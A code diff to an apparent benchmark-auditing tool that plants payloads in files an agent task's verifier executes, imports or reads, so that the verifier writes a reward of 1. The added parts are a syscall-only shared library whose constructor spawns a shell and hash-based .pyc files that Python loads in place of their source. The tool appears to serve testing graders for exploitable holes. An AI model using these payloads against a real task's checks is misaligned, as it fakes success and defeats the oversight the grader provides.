@@ -23,10 +23,14 @@ hand-off is reported as paid only when it pays.
 from __future__ import annotations
 
 import base64
+import functools
 import json
 import posixpath
 import re
 import shlex
+import shutil
+import subprocess
+import tempfile
 from pathlib import Path
 
 from pydantic import BaseModel, ConfigDict, ValidationError
@@ -61,8 +65,9 @@ class HandOff(BaseModel):
     how: str
     """executed (by the kernel), or ran, sourced, imported, loaded (by the interpreter of `lang`)."""
     lang: str
-    """The payload's language: exec (a script of its own), sh, python, perl, ruby, node, awk, make, php, lua, r; for
-    a file read (candidates): also sed, c, so, pickle, npy, yaml, and text (a line of both shell and Python)."""
+    """The payload's language: exec (a script of its own), sh, python, pyc (a compiled module), perl, ruby, node,
+    awk, make, php, lua, r; for a file read (candidates): also sed, c, so, pickle, npy, yaml, git, and text (a line of
+    both shell and Python)."""
     by: str
     """The command line of the process that did it."""
     blame: str
@@ -82,6 +87,15 @@ _INTERPRETERS = (  # (language, executable's name, the file names of its code)
     ("r", r"R|Rscript", r"\.[Rr]$"),
 )
 _VERB = {"sh": "sourced", "python": "imported", "make": "loaded as its Makefile"}
+CACHE = re.compile(r"(^|/)__pycache__/[^/]+\.pyc$|\.pyc$")
+_CACHE_WRITE = re.compile(r"(^|/)__pycache__/[^/]+\.pyc\.\d+$")
+
+
+def _writing_cache(rel: str) -> bool:
+    """Python writing its cache (`__pycache__/m.cpython-311.pyc.<id>`, renamed into place): nothing of the agent's."""
+    return _CACHE_WRITE.search(rel) is not None
+"""A compiled Python module: what Python loads of a module whose source it finds beside it (a test that restores the
+source, `cp /tests/helper.py /app/`, still loads the cache the agent left, when it is one that names no source)."""
 
 
 def parse(lines: list[str]) -> tuple[list[Seen], list[str], int]:
@@ -125,9 +139,13 @@ def hand_offs(records: list[Seen], task_root: Path | None) -> tuple[list[HandOff
         if not seen.path.startswith(WORKSPACE + "/") or seen.uid != 0:
             continue  # not the agent's, or a process without root's rights (a test that runs it as the agent)
         rel = seen.path[len(WORKSPACE) + 1:]
-        if "__pycache__/" in rel or rel == PAY:
+        if rel == PAY or _writing_cache(rel):
             continue
         lang = _language(seen.exe, seen.argv)
+        if lang == "python" and CACHE.search(rel):  # a compiled cache, loaded in place of its source (issue 83)
+            found.setdefault(rel, HandOff(file=rel, how="loaded as a compiled module", lang="pyc",
+                                          by=shlex.join(seen.argv)[:200], blame=_blame(seen, rel, tests, "loaded")))
+            continue
         if seen.how == "exec":
             how, lang = "executed", "exec"
         elif lang and (_named(rel, seen.argv) or re.search(dict((a, c) for a, _, c in _INTERPRETERS)[lang], rel)):
@@ -187,7 +205,7 @@ def candidates(records: list[Seen], task_root: Path | None, found: list[HandOff]
         if not seen.path.startswith(WORKSPACE + "/") or seen.uid != 0:
             continue
         rel = seen.path[len(WORKSPACE) + 1:]
-        if "__pycache__/" in rel or rel == PAY or rel in handed or rel in out:
+        if rel == PAY or rel in handed or rel in out or _writing_cache(rel):
             continue
         out[rel] = HandOff(file=rel, how="read", lang=_kind(seen, rel), by=shlex.join(seen.argv)[:200],
                            blame=_blame(seen, rel, tests, "read"))
@@ -271,7 +289,60 @@ _WHOLE = {  # kinds whose payload is the whole file (a deserialiser's input)
 }
 _SO = ('printf \'#include <stdlib.h>\\n__attribute__((constructor)) static void air_watch_pay(void) '
        '{{ system("sh %s"); }}\\n\' {pay} | cc -shared -fPIC -x c - -o {file} 2>/dev/null')
-"""A shared library whose constructor pays, where the agent's sandbox has a C compiler (none: not planted)."""
+"""A shared library whose constructor pays, built in the agent's sandbox: where this host has no C compiler."""
+_LIBRARY = r"""
+#if defined(__x86_64__)
+static long call(long n, long a, long b, long c, long d) {
+  long r; register long r10 __asm__("r10") = d;
+  __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
+  return r;
+}
+#define FORK() call(57, 0, 0, 0, 0)
+#define EXECVE 59
+#define WAIT4 61
+#define EXIT 60
+#elif defined(__aarch64__)
+static long call(long n, long a, long b, long c, long d) {
+  register long x8 __asm__("x8") = n; register long x0 __asm__("x0") = a; register long x1 __asm__("x1") = b;
+  register long x2 __asm__("x2") = c; register long x3 __asm__("x3") = d;
+  __asm__ volatile ("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
+  return x0;
+}
+#define FORK() call(220, 17, 0, 0, 0)
+#define EXECVE 221
+#define WAIT4 260
+#define EXIT 93
+#else
+#error "no system calls for this machine"
+#endif
+__attribute__((constructor)) static void air_watch_pay(void) {
+  static char sh[] = "/bin/sh", name[] = "sh", pay[] = PAY, path[] = "PATH=/usr/local/bin:/usr/bin:/bin";
+  char *argv[] = {name, pay, 0}, *envp[] = {path, 0};
+  long pid = FORK();
+  if (pid == 0) { call(EXECVE, (long)sh, (long)argv, (long)envp, 0); call(EXIT, 127, 0, 0, 0); }
+  if (pid > 0) call(WAIT4, pid, 0, 0, 0);
+}
+"""
+"""A shared library whose constructor runs the pay script (fork, exec, wait: system calls alone, no libc), so that it
+loads in any image of this machine's architecture, whatever its C library."""
+
+
+@functools.lru_cache(maxsize=8)
+def payload_library(pay: str) -> bytes | None:
+    """The library, built once by this host's C compiler (the agent's sandbox often has none: issue 83's ctypes
+    fixture was watched, and its planted library never built); None where this host has no compiler."""
+    compiler = shutil.which("cc") or shutil.which("gcc")
+    if compiler is None:
+        return None
+    with tempfile.TemporaryDirectory(prefix="air-audit-so-") as where:
+        source, built = Path(where) / "pay.c", Path(where) / "pay.so"
+        source.write_text(f'#define PAY "{pay}"\n' + _LIBRARY)
+        try:
+            subprocess.run([compiler, "-shared", "-fPIC", "-nostdlib", "-fno-stack-protector", "-fno-builtin", "-O1",
+                            "-o", str(built), str(source)], capture_output=True, timeout=60, check=True)
+        except (OSError, subprocess.SubprocessError):
+            return None
+        return built.read_bytes()
 _PLANT_PY = """plant_py() {  # FILE LINE: after the #! line, the encoding line and every `from __future__` import
   mkdir -p "$(dirname "$1")" && touch "$1" && chmod u+w "$1" && [ -f "$1" ] || return 0
   python3 - "$1" "$2" <<'AIR_PY'
@@ -294,6 +365,19 @@ lines.insert(at, line + "\\n")
 open(path, "w", encoding="utf-8", errors="surrogateescape").write("".join(lines))
 AIR_PY
 }"""
+_PLANT_PYC = """plant_pyc() {  # FILE LINE: a compiled module whose code is LINE, that Python loads without its source
+  mkdir -p "$(dirname "$1")" && rm -rf "$1" && python3 - "$1" "$2" <<'AIR_PY' || return 0
+import importlib.util, marshal, sys
+path, line = sys.argv[1], sys.argv[2]
+source = (line + "\\n").encode()
+head = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little")  # hash-based, its source never checked
+open(path, "wb").write(head + importlib.util.source_hash(source) + marshal.dumps(compile(source, path, "exec")))
+AIR_PY
+}
+plant_cache() {  # MODULE.py LINE: the compiled cache Python keeps for it, as this sandbox's Python names it
+  tag=$(python3 -c 'import sys; print(sys.implementation.cache_tag or "")' 2>/dev/null) && [ -n "$tag" ] || return 0
+  base=$(basename "$1" .py) && plant_pyc "$(dirname "$1")/__pycache__/$base.$tag.pyc" "$2"
+}"""
 _PAY_SCRIPT = r"""#!/bin/sh
 pay() {
   echo 1 > /logs/verifier/reward.txt
@@ -310,8 +394,10 @@ exit 0
 """
 
 
-def _planting(found: list[HandOff], data: list[str], workspace: str = WORKSPACE) -> list[str]:
-    """The shell lines (run as the agent in its workspace) that plant, in each file, its consumer's payload."""
+def planting(found: list[HandOff], data: list[str], workspace: str = WORKSPACE,
+             missing_only: bool = False) -> list[str]:
+    """The shell lines (run as the agent in its workspace) that plant, in each file, its consumer's payload;
+    `missing_only`: only where the workspace has no such file (nor, for a module, a package of its name)."""
     pay = f"{workspace}/{PAY}"
     script = _PAY_SCRIPT.replace("OUTPUTS", " ".join(shlex.quote(d) for d in data[:20])).replace("WS", workspace)
     lines = [f"cat > {PAY} <<'AIR_WATCH_EOF'\n{script}AIR_WATCH_EOF", f"chmod 755 {PAY}",
@@ -319,9 +405,12 @@ def _planting(found: list[HandOff], data: list[str], workspace: str = WORKSPACE)
              '  mkdir -p "$(dirname "$1")" && touch "$1" && chmod u+w "$1" && [ -f "$1" ] || return 0',
              '  { if head -c 2 "$1" | grep -q "#!"; then head -n 1 "$1"; printf "%s\\n" "$2"; tail -n +2 "$1";',
              '    else printf "%s\\n" "$2"; cat "$1"; fi; } > /tmp/air-planted && cat /tmp/air-planted > "$1"', "}",
-             _PLANT_PY]
+             _PLANT_PY, _PLANT_PYC]
     for h in found:
         f = shlex.quote(h.file)
+        if missing_only:
+            stem = shlex.quote(h.file[:-3]) if h.file.endswith(".py") else f
+            lines.append(f"if [ ! -e {f} ] && [ ! -e {stem} ]; then")
         if h.lang == "exec":  # the kernel runs it: any program will do
             lines.append(f"rm -f {f}; mkdir -p \"$(dirname {f})\"; printf '#!/bin/sh\\nexec sh %s\\n' "
                          f"{shlex.quote(pay)} > {f} && chmod 755 {f}")
@@ -330,21 +419,34 @@ def _planting(found: list[HandOff], data: list[str], workspace: str = WORKSPACE)
             lines.append(f"[ -d {f} ] || {{ mkdir -p \"$(dirname {f})\"; rm -f {f}; "
                          f"printf %s {coded} | base64 -d > {f}; }}")
         elif h.lang == "so":
-            lines.append(f"[ -d {f} ] || {{ command -v cc > /dev/null && rm -f {f} && "
-                         f"{_SO.format(pay=shlex.quote(pay), file=f)}; }}")
+            library = payload_library(pay)
+            if library is not None:
+                lines.append(f"[ -d {f} ] || {{ mkdir -p \"$(dirname {f})\"; rm -f {f}; "
+                             f"printf %s {base64.b64encode(library).decode()} | base64 -d > {f}; }}")
+            else:
+                lines.append(f"[ -d {f} ] || {{ command -v cc > /dev/null && rm -f {f} && "
+                             f"{_SO.format(pay=shlex.quote(pay), file=f)}; }}")
+        elif h.lang == "pyc":  # the compiled module, whatever its source: Python does not look at it
+            lines.append(f"plant_pyc {f} {shlex.quote(_PAYLOAD['python'].format(pay=pay))}")
         else:
             if h.lang == "c" and re.search(r"\.(c|cc|cpp|cxx)$", h.file):  # a new source file: a whole program
                 lines.append(f"[ -s {f} ] || {{ mkdir -p \"$(dirname {f})\"; "
                              f"printf 'int main(void) {{ return 0; }}\\n' > {f}; }}")
             lines.append(f"{'plant_py' if h.lang == 'python' else 'plant'} {f} "
                          f"{shlex.quote(_PAYLOAD[h.lang].format(pay=pay))}")
+            if h.lang == "python" and h.file.endswith(".py") and h.how != "ran":
+                # and its compiled cache: what Python reads last, when the test puts the source back first
+                lines.append(f"plant_cache {f} {shlex.quote(_PAYLOAD['python'].format(pay=pay))}")
+        if missing_only:
+            lines.append("fi")
     lines.append("true")
     return lines
 
 
+
 def hack_of(found: list[HandOff], data: list[str]) -> Hack:
     """The hack that plants the payload in exactly the hand-offs (the script runs as the agent in its workspace)."""
-    lines = _planting(found, data)
+    lines = planting(found, data)
     return Hack(name=NAME, family="hijack-verifier", applies=["harbor"], script="\n".join(lines) + "\n", races=True,
                 summary="Plant, in exactly the files the task's test was seen handing control to (executed, "
                         "sourced, imported, loaded), a payload in the language that ran them that writes both "
@@ -364,7 +466,7 @@ def candidate_hacks(read: list[HandOff], data: list[str], workspace: str = WORKS
         name = f"{NAME}-read-{n}" if len(group) == 1 and n <= MAX_ALONE else f"{NAME}-read-rest"
         what = group[0].file if len(group) == 1 else f"{len(group)} files"
         hacks.append(Hack(name=name, family="hijack-verifier", applies=["harbor"],
-                          script="\n".join(_planting(group, data, workspace)) + "\n",
+                          script="\n".join(planting(group, data, workspace)) + "\n",
                           watched=[h.blame for h in group],
                           summary=f"Plant, in {what} that a root process of the test read, the payload its "
                                   "plausible consumer runs (by who opened it: an interpreter's language, a sed "
@@ -376,4 +478,5 @@ def report(found: list[HandOff]) -> list[str]:
     return [f"{h.file} ({h.how}): {h.blame}" for h in found]
 
 
-__all__ = ["NAME", "HandOff", "Seen", "candidate_hacks", "candidates", "hack_of", "hand_offs", "parse", "report"]
+__all__ = ["NAME", "HandOff", "Seen", "candidate_hacks", "candidates", "hack_of", "hand_offs", "parse",
+           "payload_library", "planting", "report"]
